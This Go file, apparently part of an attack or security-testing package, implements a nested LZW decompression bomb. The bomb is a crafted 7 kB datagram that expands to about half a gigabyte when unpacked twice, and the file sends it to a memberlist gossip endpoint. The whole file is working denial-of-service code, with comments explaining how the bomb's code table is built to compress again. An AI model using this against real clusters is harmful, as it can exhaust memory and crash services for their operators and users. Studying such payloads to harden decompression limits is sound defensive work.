package attacks

import (
	"bytes"
	"compress/lzw"
	"context"
)

// NestedCompression sends one datagram of some 7 kB that becomes half a gigabyte when it is unpacked twice.
func NestedCompression(ctx context.Context, gossip string) error {
	var outer bytes.Buffer
	w := lzw.NewWriter(&outer, lzw.LSB, 8)
	_, _ = w.Write(compressed(bomb(512 << 20))) // to memory
	_ = w.Close()
	return Datagrams(ctx, gossip, labeled(compressed(outer.Bytes())))
}

// compressed is memberlist's message with compression on, around data that is compressed already.
func compressed(buf []byte) []byte {
	return append([]byte{9}, packed(struct {
		Algo int
		Buf  []byte
	}{0, buf})...)
}

// bomb is LZW of so many zeros or a few more. It fills the table of codes once and then repeats the code of
// the longest text, which is all ones, so that it can be compressed again.
func bomb(zeros int) []byte {
	const first, last, widest = 258, 4095, 12
	var packed []byte
	var bits, have uint
	put := func(code, width uint) {
		bits |= code << have
		for have += width; have >= 8; have -= 8 {
			packed = append(packed, byte(bits&0xff))
			bits >>= 8
		}
	}
	put(0, 9)
	width := uint(9)
	for code := uint(first); code <= last; code++ { // each is the text of the code before, and one more zero
		if code == 1<<width {
			width++
		}
		put(code, width)
	}
	for range zeros / (last - first + 2) {
		put(last, widest)
	}
	put(first-1, widest) // the end
	put(0, 8)
	return packed
}
